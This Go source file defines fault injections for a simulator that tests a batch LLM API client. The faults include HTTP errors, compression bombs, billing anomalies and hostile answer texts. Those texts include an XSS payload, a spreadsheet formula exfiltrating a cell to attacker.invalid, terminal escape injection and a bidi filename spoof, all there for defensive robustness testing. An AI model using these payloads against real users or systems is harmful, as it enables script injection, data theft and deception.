package simulator

import "github.com/batchwright/batchwright/internal/batch"

// Fault is one way in which a call ends other than well.
type Fault uint8

// The faults. Their names in a knob string are in faultTable.
const (
	NoFault Fault = iota

	// Refusals.
	FaultRateLimit
	FaultBadHint
	FaultRamp
	FaultQuota
	Fault402
	FaultSpendLimit
	FaultAuth
	FaultGone
	FaultContext
	FaultTooBig
	FaultInvalid
	FaultShouldRetry
	FaultShouldNotRetry
	FaultRedirect
	Fault408
	Fault409
	Fault498
	Fault500
	Fault502
	Fault503
	Fault504
	Fault529

	// Exchanges that break, before and after the money was made.
	FaultReset
	FaultTimeout
	FaultStuck
	FaultDrop
	FaultTruncate
	FaultCut
	FaultRST
	FaultLongLength
	FaultShortLength
	FaultDrip
	FaultHuge
	FaultGzipBomb
	FaultDeflateBomb
	FaultHeaderFlood
	FaultInterim
	FaultGoAway

	// Answers that are none, or not the one that was asked for.
	FaultEmpty
	FaultHTML
	FaultNoChoice
	FaultNullChoices
	FaultNullContent
	FaultErrorIn200
	FaultErrorInChoice
	FaultBadJSON
	FaultLength
	FaultRefuse
	FaultFilter

	// Bills that are not what the answer says.
	FaultUnbilled
	FaultNoUsage
	FaultLowUsage
	FaultHighUsage
	FaultNegativeUsage
	FaultOverflowUsage
	FaultHugeUsage

	// Answers that are odd and good.
	FaultWrongModel
	FaultWrongID
	FaultSlow

	// Texts that whoever shows or stores them must survive.
	FaultBadUTF8
	FaultNUL
	FaultBidi
	FaultANSI
	FaultScript
	FaultFormula
	FaultBigToken
	faultCount
)

// faultFacts is what is true of a fault in every dialect.
type faultFacts struct {
	name   string
	class  batch.Class // what a right client makes of it
	status int         // 0: an answer of status 200, or none at all
	billed bool
	atOnce bool // answered without the latency of a generation
	final  bool // billed, and the answer was good, delivered or not
	lost   bool // the client never gets a whole answer
	manner Manner
	text   string // what stands in the place of the answer's text
}

var faultTable = [faultCount]faultFacts{
	NoFault: {name: "ok", class: batch.ClassOK, billed: true, final: true},

	FaultRateLimit:      {name: "429", class: batch.ClassRateLimited, status: 429, atOnce: true},
	FaultBadHint:        {name: "badhint", class: batch.ClassRateLimited, status: 429, atOnce: true},
	FaultRamp:           {name: "ramp", class: batch.ClassRamp, status: 429, atOnce: true},
	FaultQuota:          {name: "quota", class: batch.ClassQuotaMoney, status: 429, atOnce: true},
	Fault402:            {name: "402", class: batch.ClassQuotaMoney, status: 402, atOnce: true},
	FaultSpendLimit:     {name: "spendlimit", class: batch.ClassQuotaMoney, status: 400, atOnce: true},
	FaultAuth:           {name: "auth", class: batch.ClassAuth, status: 401, atOnce: true},
	FaultGone:           {name: "gone", class: batch.ClassInvalidRequest, status: 404, atOnce: true},
	FaultContext:        {name: "context", class: batch.ClassContextTooLong, status: 400, atOnce: true},
	FaultTooBig:         {name: "toobig", class: batch.ClassTooBig, status: 413, atOnce: true},
	FaultInvalid:        {name: "400", class: batch.ClassInvalidRequest, status: 400, atOnce: true},
	FaultShouldRetry:    {name: "shouldretry", class: batch.ClassTransient, status: 400, atOnce: true},
	FaultShouldNotRetry: {name: "shouldnotretry", class: batch.ClassInvalidRequest, status: 500, atOnce: true},
	FaultRedirect:       {name: "redirect", class: batch.ClassInvalidRequest, status: 307, atOnce: true},
	Fault408:            {name: "408", class: batch.ClassTransient, status: 408},
	Fault409:            {name: "409", class: batch.ClassTransient, status: 409},
	Fault498:            {name: "498", class: batch.ClassCapacity, status: 498},
	Fault500:            {name: "500", class: batch.ClassTransient, status: 500},
	Fault502:            {name: "502", class: batch.ClassTransient, status: 502},
	Fault503:            {name: "503", class: batch.ClassCapacity, status: 503},
	Fault504:            {name: "504", class: batch.ClassTransient, status: 504},
	Fault529:            {name: "529", class: batch.ClassCapacity, status: 529},

	FaultReset:       {name: "reset", class: batch.ClassUnknown, lost: true},
	FaultTimeout:     {name: "timeout", class: batch.ClassUnknown, atOnce: true, lost: true},
	FaultStuck:       {name: "stuck", class: batch.ClassUnknown, atOnce: true, billed: true, final: true, lost: true},
	FaultDrop:        {name: "drop", class: batch.ClassUnknown, billed: true, final: true, lost: true},
	FaultTruncate:    {name: "truncate", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: CutInside},
	FaultCut:         {name: "cut", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: CutInside},
	FaultRST:         {name: "rst", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: Reset},
	FaultLongLength:  {name: "longlength", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: LongLength},
	FaultShortLength: {name: "shortlength", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: ShortLength},
	FaultDrip:        {name: "drip", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: Drip},
	FaultHuge:        {name: "huge", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: Huge},
	FaultGzipBomb:    {name: "gzipbomb", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: GzipBomb},
	FaultDeflateBomb: {name: "deflatebomb", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: DeflateBomb},
	FaultHeaderFlood: {name: "headerflood", class: batch.ClassUnknown, billed: true, final: true, lost: true, manner: HeaderFlood},
	FaultInterim:     {name: "interim", class: batch.ClassOK, billed: true, final: true, manner: Interim},
	FaultGoAway:      {name: "goaway", class: batch.ClassOK, billed: true, final: true, manner: GoAway},

	FaultEmpty:         {name: "empty", class: batch.ClassUnknown, billed: true, final: true, lost: true},
	FaultHTML:          {name: "html", class: batch.ClassUnknown, atOnce: true},
	FaultNoChoice:      {name: "nochoice", class: batch.ClassUnknown, billed: true},
	FaultNullChoices:   {name: "nullchoices", class: batch.ClassUnknown, billed: true},
	FaultNullContent:   {name: "nullcontent", class: batch.ClassInvalidOutput, billed: true},
	FaultErrorIn200:    {name: "200error", class: batch.ClassTransient},
	FaultErrorInChoice: {name: "choiceerror", class: batch.ClassTransient},
	FaultBadJSON:       {name: "badjson", class: batch.ClassInvalidOutput, billed: true},
	FaultLength:        {name: "length", class: batch.ClassTruncated, billed: true, final: true},
	FaultRefuse:        {name: "refuse", class: batch.ClassRefused, billed: true, final: true},
	FaultFilter:        {name: "filter", class: batch.ClassFiltered, billed: true, final: true},
	FaultWrongModel:    {name: "wrongmodel", class: batch.ClassOK, billed: true, final: true},
	FaultWrongID:       {name: "wrongid", class: batch.ClassOK, billed: true, final: true},
	FaultSlow:          {name: "slow", class: batch.ClassOK, billed: true, final: true},

	FaultUnbilled:      {name: "unbilled", class: batch.ClassOK},
	FaultNoUsage:       {name: "nousage", class: batch.ClassOK, billed: true, final: true},
	FaultLowUsage:      {name: "lowusage", class: batch.ClassOK, billed: true, final: true},
	FaultHighUsage:     {name: "highusage", class: batch.ClassOK, billed: true, final: true},
	FaultNegativeUsage: {name: "negusage", class: batch.ClassOK, billed: true, final: true},
	FaultOverflowUsage: {name: "overusage", class: batch.ClassOK, billed: true, final: true},
	FaultHugeUsage:     {name: "hugeusage", class: batch.ClassBreach, billed: true, final: true},

	FaultBadUTF8:  {name: "badutf8", class: batch.ClassOK, billed: true, final: true, text: "caf\xe9 \xf0\x28\x8c\x28 \xed\xa0\x80 end"},
	FaultNUL:      {name: "nul", class: batch.ClassOK, billed: true, final: true, text: "before\x00after\x01\x1f"},
	FaultBidi:     {name: "bidi", class: batch.ClassOK, billed: true, final: true, text: "abc\u202egnp.exe\u2066 x\u2069\u200f\ufeff\u2028end"},
	FaultANSI:     {name: "ansi", class: batch.ClassOK, billed: true, final: true, text: "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m \u009b1m"},
	FaultScript:   {name: "script", class: batch.ClassOK, billed: true, final: true, text: `</script><script>alert(1)</script><img src=x onerror=alert(2)>`},
	FaultFormula:  {name: "formula", class: batch.ClassOK, billed: true, final: true, text: `=HYPERLINK("http://attacker.invalid/?"&A1,"click")`},
	FaultBigToken: {name: "bigtoken", class: batch.ClassOK, billed: true, final: true},
}

func (f Fault) String() string { return faultTable[f].name }

// lost reports whether the client never gets a whole answer.
func (f Fault) lost() bool { return faultTable[f].lost }

// stops reports whether a fault ends more than its own call: a lane or a run.
func (f Fault) stops() bool {
	c := faultTable[f].class
	return c.Traits().StopsLane || c == batch.ClassBreach || f == FaultGone || f == FaultLowUsage
}

func faultNamed(name string) (Fault, bool) {
	for f := NoFault; f < faultCount; f++ {
		if faultTable[f].name == name {
			return f, true
		}
	}
	return 0, false
}
